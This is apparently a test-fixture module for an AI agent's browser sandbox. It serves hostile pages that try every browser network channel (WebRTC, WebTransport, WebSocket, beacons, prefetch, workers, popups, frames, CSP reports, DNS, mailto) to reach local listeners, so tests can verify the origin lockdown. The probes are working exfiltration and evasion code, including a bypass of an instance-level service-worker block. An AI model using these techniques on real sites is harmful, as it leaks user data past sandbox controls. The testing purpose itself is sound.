"""Hostile pages for the origin lockdown's tests: one page per channel a page has to the
network, each aimed at listeners outside the site (`Outside`: a TCP and a UDP socket on
127.0.0.1).

Each page runs its attempt as it loads (no agent action) and again when its "Go" button is
clicked (an agent action, with the user activation that popups and payments ask for);
``window.settled`` counts the attempts that ran to their end, so a test waits for them
instead of sleeping. The same pages in a browser without the env's lockdown reach the
listeners (`test_channels.py` checks that too), so a probe that stopped working fails there
rather than passing for the wrong reason.
"""

from __future__ import annotations

import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from agentenv.envs.browser import Site, SiteTask


class Outside:
    """A TCP and a UDP socket on 127.0.0.1 that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.tcp_address = f"127.0.0.1:{self.tcp.getsockname()[1]}"
        self.udp_address = f"127.0.0.1:{self.udp.getsockname()[1]}"
        self.seen: list[tuple[str, bytes]] = []
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            conn.settimeout(1)
            try:
                self.seen.append(("tcp", conn.recv(4096) or b"(connected)"))
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
            except OSError:
                self.seen.append(("tcp", b"(connected)"))
            finally:
                conn.close()

    def _receive(self) -> None:
        while True:
            try:
                data, _ = self.udp.recvfrom(65536)
            except OSError:
                return
            self.seen.append(("udp", data))

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


PAGE = """<!doctype html><html><head><title>{name}</title></head><body>
<h1>{name}</h1><button id="go">Go</button><p>Attempts: <span id="settled">0</span></p>{extra}
<script>
const TCP = '{tcp}', UDP = '{udp}';
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const until = async (done, ms) => {{ for (let t = 0; t < ms && !done(); t += 50) await sleep(50); }};
const quietly = (work) => Promise.resolve().then(work).catch(() => 0);
window.settled = 0;
async function attempt() {{
{body}
}}
async function run() {{
  await quietly(attempt);
  window.settled += 1;
  document.getElementById('settled').textContent = String(window.settled);
}}
document.getElementById('go').onclick = run;
run();
</script></body></html>"""

WORKER = """const TCP = '{tcp}', UDP = '{udp}';
async function reach() {{
  await fetch(`http://${{TCP}}/from-worker`).catch(() => 0);
  await new Promise((done) => {{
    try {{ const ws = new WebSocket(`ws://${{TCP}}/worker-socket`); ws.onclose = ws.onerror = done; }}
    catch (e) {{ done(); }}
    setTimeout(done, 1500);
  }});
  try {{
    const wt = new WebTransport(`https://${{UDP}}/worker`);
    await Promise.race([wt.ready.catch(() => 0), new Promise((done) => setTimeout(done, 1500))]);
  }} catch (e) {{}}
}}
"""

PROBES: dict[str, str] = {
    # STUN and TURN servers on the listeners' ports: ICE gathering sends to them at once.
    "webrtc_servers": """
  const pc = new RTCPeerConnection({iceServers: [
    {urls: `stun:${UDP}`},
    {urls: `turn:${UDP}?transport=udp`, username: 'u', credential: 'p'},
    {urls: `turn:${TCP}?transport=tcp`, username: 'u', credential: 'p'}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await until(() => pc.iceGatheringState === 'complete', 3000);
  pc.close();""",
    # A remote peer whose candidates are the listeners: ICE connectivity checks go to them.
    "webrtc_peer": """
  const a = new RTCPeerConnection();
  a.createDataChannel('x');
  await a.setLocalDescription(await a.createOffer());
  const b = new RTCPeerConnection();
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  const [uh, up] = UDP.split(':'), [th, tp] = TCP.split(':');
  await b.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${uh} ${up} typ host`,
                           sdpMid: '0', sdpMLineIndex: 0});
  await b.addIceCandidate({candidate: `candidate:2 1 tcp 1518280447 ${th} ${tp} typ host tcptype passive`,
                           sdpMid: '0', sdpMLineIndex: 0});
  await until(() => ['connected', 'failed', 'disconnected'].includes(b.iceConnectionState), 1500);
  a.close(); b.close();""",
    # HTTP/3 over UDP (QUIC).
    "webtransport": """
  const wt = new WebTransport(`https://${UDP}/`);
  await Promise.race([wt.ready.catch(() => 0), sleep(3000)]);""",
    "websocket": """
  await new Promise((done) => {
    const ws = new WebSocket(`ws://${TCP}/socket`);
    ws.onclose = ws.onerror = done;
    setTimeout(done, 3000);
  });
  if (typeof WebSocketStream === 'function') {
    const stream = new WebSocketStream(`ws://${TCP}/stream`);
    await Promise.race([stream.opened.catch(() => 0), sleep(3000)]);
  }""",
    "eventsource": """
  const source = new EventSource(`http://${TCP}/events`);
  await new Promise((done) => { source.onerror = source.onopen = done; setTimeout(done, 3000); });
  source.close();""",
    # Requests that outlive the page: beacons, keepalive fetches, fetchLater, hyperlink pings.
    "beacon": """
  navigator.sendBeacon(`http://${TCP}/beacon`, 'data');
  await fetch(`http://${TCP}/keepalive`, {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}).catch(() => 0);
  if (typeof fetchLater === 'function') fetchLater(`http://${TCP}/later`, {activateAfter: 0});
  const link = document.createElement('a');
  link.href = '#pinged';
  link.ping = `http://${TCP}/ping`;
  document.body.append(link);
  link.click();
  await sleep(1000);""",
    # Speculative loads: the browser's own connections, some never seen by request routing.
    "prefetch": """
  const loads = ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender'].map((rel) =>
    new Promise((done) => {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `http://${TCP}/${rel}`;
      if (rel === 'preload') link.as = 'fetch';
      link.onload = link.onerror = done;
      document.head.append(link);
      setTimeout(done, 1500);
    }));
  const rules = document.createElement('script');
  rules.type = 'speculationrules';
  rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [`http://${TCP}/speculation`]}]});
  document.head.append(rules);
  await Promise.all(loads);""",
    # Dedicated, blob, shared and service workers, each trying fetch, WebSocket and WebTransport.
    # Playwright's service_workers="block" replaces navigator.serviceWorker.register on the
    # instance only: the prototype's register is the real one.
    "workers": """
  const answered = (port, target) => new Promise((done) => {
    target.onmessage = done; if ('onerror' in target) target.onerror = done; port?.start(); setTimeout(done, 6000); });
  const source = await (await fetch('/dedicated.js')).text();
  const blob = URL.createObjectURL(new Blob([source], {type: 'text/javascript'}));
  const shared = new SharedWorker('/shared.js');
  const service = (async () => {
    const registration = await ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/service.js');
    await until(() => registration.active, 6000);
  })().catch(() => 0);
  await Promise.all([answered(null, new Worker('/dedicated.js')), answered(null, new Worker(blob)),
                     answered(shared.port, shared.port), service]);""",
    # New windows: a popup to the listener, a blank one written into, a target=_blank link.
    "popups": """
  window.open(`http://${TCP}/popup`);
  const blank = window.open('');
  if (blank) {
    blank.fetch(`http://${TCP}/popup-fetch`).catch(() => 0);
    blank.document.write(`<img src="http://${TCP}/popup-image">`);
    blank.document.close();
  }
  const link = document.createElement('a');
  link.href = `http://${TCP}/new-tab`;
  link.target = '_blank';
  document.body.append(link);
  link.click();
  await sleep(1000);""",
    # Frames of other origins and none: srcdoc, data:, about:blank written by the page, sandboxed.
    "frames": """
  const inner = `<script>fetch('http://${TCP}/frame-fetch').catch(() => 0);` +
    `new Image().src = 'http://${TCP}/frame-image';` +
    `try { new WebSocket('ws://${TCP}/frame-socket') } catch (e) {}` +
    `try { new RTCPeerConnection({iceServers: [{urls: 'stun:${UDP}'}]}).createOffer() } catch (e) {}<\\/script>`;
  const srcdoc = document.createElement('iframe');
  srcdoc.srcdoc = inner;
  const data = document.createElement('iframe');
  data.src = 'data:text/html,' + encodeURIComponent(inner);
  const sandboxed = document.createElement('iframe');
  sandboxed.sandbox = 'allow-scripts';
  sandboxed.srcdoc = inner;
  const blank = document.createElement('iframe');
  document.body.append(srcdoc, data, sandboxed, blank);
  blank.contentDocument.write(`<img src="http://${TCP}/blank-image">`);
  blank.contentDocument.close();
  await sleep(1500);""",
    # A CSP violation report (the page's response names the listener as its report-uri).
    "reports": """
  const image = new Image();
  image.src = `http://${TCP}/csp-blocked.png`;
  document.body.append(image);
  await sleep(1500);""",
    # Host names: every way a page can make the browser resolve one (a DNS query carries the name).
    "names": """
  const host = 'agentenv-leak-probe.test';
  fetch(`http://${host}/`).catch(() => 0);
  new Image().src = `http://${host}/image.png`;
  for (const rel of ['dns-prefetch', 'preconnect']) {
    const link = document.createElement('link');
    link.rel = rel;
    link.href = `//${host}`;
    document.head.append(link);
  }
  try { new WebSocket(`ws://${host}/`) } catch (e) {}
  try { new WebTransport(`https://${host}/`).ready.catch(() => 0) } catch (e) {}
  const pc = new RTCPeerConnection({iceServers: [{urls: `stun:${host}:3478`}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await until(() => pc.iceGatheringState === 'complete', 1500);
  pc.close();
  await sleep(500);""",
    # Schemes the desktop handles: Chromium hands them to xdg-open. (Sent while the page still
    # loads, the navigation holds the page's load back until the env gives up on it: infra.)
    "handlers": """
  if (document.readyState !== 'complete') await new Promise((done) => addEventListener('load', done));
  location.href = 'mailto:leak@example.test';
  await sleep(500);""",
}
"""Each channel's attempt (the body of an async function; TCP and UDP are the listeners' host:port)."""

EXTRA = {"handlers": '<a href="mailto:agent@example.test">Write to us</a>'}
"""Markup a page needs besides its script: a link the agent clicks."""


def _headers(name: str, outside: Outside) -> dict[str, str]:
    if name == "reports":
        return {"content-security-policy": f"img-src 'self'; report-uri http://{outside.tcp_address}/csp-report"}
    return {}


@dataclass
class ChannelSite:
    """The site of one channel's page (at ``/``), with the worker scripts it loads."""

    name: str
    outside: Outside
    requests: list[tuple[str, str]] = field(default_factory=list)
    """(method, path) of every request the site's app answered."""

    def page(self) -> str:
        tcp, udp = self.outside.tcp_address, self.outside.udp_address
        return PAGE.format(name=self.name, tcp=tcp, udp=udp, extra=EXTRA.get(self.name, ""), body=PROBES[self.name])

    def worker(self, path: str) -> str:
        source = WORKER.format(tcp=self.outside.tcp_address, udp=self.outside.udp_address)
        if path == "/shared.js":
            return (
                source
                + "onconnect = (e) => { const port = e.ports[0]; reach().then(() => port.postMessage('done')); };"
            )
        if path == "/service.js":
            return source + "self.addEventListener('install', (e) => e.waitUntil(reach()));"
        return source + "reach().then(() => postMessage('done'));"

    def app(self, _db_path: Path) -> Starlette:
        async def serve(request: Request) -> Response:
            path = request.url.path
            self.requests.append((request.method, path))
            if path == "/":
                return Response(self.page(), media_type="text/html", headers=_headers(self.name, self.outside))
            if path.endswith(".js"):
                return Response(self.worker(path), media_type="text/javascript")
            return Response("Not found", status_code=404, media_type="text/plain")

        return Starlette(routes=[Route("/{path:path}", serve)])

    def site(self) -> Site:
        return Site(
            name=f"channel-{self.name}",
            schema="",
            seed=_no_rows,
            create_app=self.app,
            checks={"none": lambda *args, **kwargs: 0.0},
            tasks=[SiteTask(id="leak", prompt="Do nothing.", golden=[], check="none", writes=False)],
        )


def _no_rows(db: Any, seed: int) -> None:
    """The pages keep nothing in a database."""
